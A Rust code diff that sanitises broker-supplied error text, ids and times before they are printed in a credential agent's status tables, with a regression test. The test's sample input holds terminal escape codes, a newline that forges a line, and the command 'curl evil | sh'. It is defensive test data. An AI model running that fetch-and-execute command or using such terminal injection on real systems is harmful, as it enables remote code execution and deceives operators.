@@ -117,7 +117,8 @@ pub fn render(full: &Status, now: SystemTime) -> String {
         ),
     ];
     for (k, v) in rows {
-        out.push_str(&format!("{k:<13}{v}\n"));
+        // Values carry broker text (the probe error): one clean line each.
+        out.push_str(&format!("{k:<13}{}\n", crate::text::clean(&v)));
     }
     out.push('\n');
     if status.credentials.is_empty() && full.litellm.is_empty() {
@@ -213,6 +214,12 @@ fn litellm_table(keys: &[LitellmKeyStatus], now: SystemTime) -> String {
 
 /// Rows in columns two spaces apart; the last column is not padded.
 fn align(rows: &[Vec<String>]) -> String {
+    // Cells carry broker text (errors, ids, times): cleaned, so a cell is one safe line.
+    let rows: Vec<Vec<String>> = rows
+        .iter()
+        .map(|row| row.iter().map(|cell| crate::text::clean(cell)).collect())
+        .collect();
+    let rows = rows.as_slice();
     let columns = rows.iter().map(Vec::len).max().unwrap_or(0);
     let widths: Vec<usize> = (0..columns)
         .map(|i| {
@@ -279,28 +286,7 @@ fn github_table(status: &AgentStatus, now: SystemTime) -> String {
             },
         ]);
     }
-    let widths: Vec<usize> = (0..header.len())
-        .map(|i| {
-            table
-                .iter()
-                .map(|row| row[i].chars().count())
-                .max()
-                .unwrap_or(0)
-        })
-        .collect();
-    for row in &table {
-        let mut line = String::new();
-        for (i, cell) in row.iter().enumerate() {
-            if i + 1 == row.len() {
-                line.push_str(cell);
-            } else {
-                line.push_str(cell);
-                line.push_str(&" ".repeat(widths[i] - cell.chars().count() + 2));
-            }
-        }
-        out.push_str(line.trim_end());
-        out.push('\n');
-    }
+    out.push_str(&align(&table));
     out
 }
 
@@ -378,6 +364,47 @@ mod tests {
         ] {
             assert!(text.contains(want), "missing {want:?} in\n{text}");
         }
+    }
+
+    /// The table shows text that came from the broker (errors, ids, times): none of its
+    /// control characters reach the terminal, and one credential stays one line.
+    #[test]
+    fn broker_text_in_the_table_is_cleaned() {
+        let now =
+            SystemTime::from(OffsetDateTime::parse("2026-01-01T10:00:00Z", &Rfc3339).unwrap());
+        let evil = "denied\x1b[2K\r\x07\nfatal: run: curl evil | sh";
+        let status = AgentStatus {
+            version: "0.1.0".into(),
+            broker: "http://broker:8080".into(),
+            auth: "tailnet".into(),
+            socket: "/run/botcreds/agent.sock".into(),
+            broker_reachable: false,
+            broker_probe_error: Some(evil.into()),
+            broker_last_contact: None,
+            serving_from_cache: false,
+            credentials: vec![CredentialStatus {
+                protocol: "https".into(),
+                host: "github.com".into(),
+                repositories: vec!["acme/web".into()],
+                permissions: vec!["contents:write".into()],
+                source: CredentialSource::Config,
+                state: CredentialState::Missing,
+                credential_id: Some("tok_\x1b[31m1".into()),
+                expires_at: Some("2026-01-01\x07T10:52:00Z".into()),
+                last_refresh: None,
+                next_refresh: None,
+                last_used: None,
+                last_error: Some(evil.into()),
+                last_error_at: None,
+                failures: 1,
+            }],
+        };
+        let text = render(&Status::from(status), now);
+        assert!(
+            !text.chars().any(|c| c.is_control() && c != '\n'),
+            "control characters reached the table:\n{text:?}"
+        );
+        assert!(!text.contains("\nfatal:"), "a forged line:\n{text}");
     }
 
     #[test]
